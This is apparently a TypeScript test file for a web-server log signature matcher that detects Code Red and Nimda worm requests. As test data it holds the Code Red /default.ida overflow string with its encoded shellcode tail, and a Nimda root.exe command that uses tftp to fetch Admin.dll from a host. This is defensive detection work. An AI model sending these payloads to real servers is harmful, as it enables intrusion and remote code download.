import { deepEqual, equal } from 'node:assert/strict'
import { test } from 'node:test'
import type { LogEntry } from '../model/entry.ts'
import type { Instant } from '../model/instant.ts'
import type { Source } from '../model/source.ts'
import { signatures } from '../signatures/index.ts'
import { match, rules } from './match.ts'

const ready = rules(signatures)
const tail = `${'%u9090%u6858%ucbd3%u7801'.repeat(3)}%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a`
const worm = `/default.ida?${'N'.repeat(224)}${tail}`

function marks(entry: Partial<LogEntry>): readonly string[] {
  const whole: LogEntry = {
    source: '192.0.2.7' as Source,
    at: '2001-07-19T14:08:55Z' as Instant,
    clock: 'known',
    escapes: 'slashes',
    method: 'GET',
    version: '1.0',
    ...entry,
  }
  return match(whole, ready).map(({ id }) => id)
}

test('the worm as it came', () => deepEqual(marks({ target: worm }), ['codered-n-worm']))
test('the worm at any status', () =>
  deepEqual(marks({ target: worm, status: 200 }), ['codered-n-worm']))
test('the worm through a proxy', () =>
  deepEqual(marks({ target: `http://www.example.org${worm}` }), ['codered-n-worm']))
test('the worm spelled otherwise', () => {
  deepEqual(
    marks({ target: `/%64efault%2eIDA?${'%4e'.repeat(224)}${tail.replaceAll('%', '%25')}` }),
    ['codered-n-worm'],
  )
})
test('one letter less is not the whole worm', () => {
  deepEqual(marks({ target: worm.replace('N', '') }), ['codered-n-run'])
})
test('the worm as the page somebody came from is nothing', () => {
  deepEqual(marks({ target: '/', referer: `http://www.example.org${worm}`, userAgent: worm }), [])
})

test('wherever the line is cut, it is the worm or less, and never another family', () => {
  const seen = new Set<string>()
  for (let length = 1; length < worm.length; length++) {
    for (const mark of marks({ target: worm.slice(0, length), cut: true })) seen.add(mark)
  }
  deepEqual([...seen].toSorted(), ['codered-n-worm~cut', 'default-ida'])
})

test('a cut that tells nothing yet gives nothing', () => {
  for (const target of [
    '/',
    '/d',
    '/s',
    '/scripts/r',
    '/scripts/root.ex',
    '/default.id',
    '/default.htm?NNNN',
  ]) {
    deepEqual(marks({ target, cut: true }), [], target)
  }
})

test('the same text of a whole line gives no cut mark', () => {
  deepEqual(marks({ target: '/default.ida?NNNN' }), ['default-ida'])
})

test('a log that keeps no queries, versions or agents can still show a door', () => {
  const entry: LogEntry = {
    source: '192.0.2.7' as Source,
    at: '2001-09-18T13:40:25Z' as Instant,
    clock: 'known',
    escapes: 'plus',
    method: 'GET',
    target: '/scripts/root.exe',
    queryLogged: false,
  }
  deepEqual(
    match(entry, ready).map(({ id }) => id),
    ['nimda-scripts-root'],
  )
})

test('the tftp command that names its sender is its own payload', () => {
  const target = '/scripts/root.exe?/c+tftp%20-i%20192.0.2.7%20GET%20Admin.dll%20Admin.dll'
  const entry = {
    source: '192.0.2.7' as Source,
    at: '2001-09-18T13:40:25Z' as Instant,
    clock: 'known',
    escapes: 'none',
    target,
  } as const
  const [mark] = match(entry, ready)
  deepEqual(mark, {
    id: 'nimda-tftp',
    field: 'target',
    payloadHosts: ['192.0.2.7'],
    ownPayload: true,
    door: true,
  })
  equal(match({ ...entry, source: '192.0.2.8' as Source }, ready)[0]?.ownPayload, false)
})
